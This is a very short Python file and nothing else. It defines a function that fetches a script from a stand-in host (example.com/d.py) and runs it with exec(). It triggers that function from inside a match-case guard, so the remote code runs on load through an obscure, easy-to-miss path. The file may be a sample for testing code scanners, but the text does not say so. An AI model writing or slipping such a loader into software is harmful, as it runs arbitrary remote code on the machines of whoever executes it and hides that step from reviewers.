import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


match 1:
    case x if _go() or x:
        pass
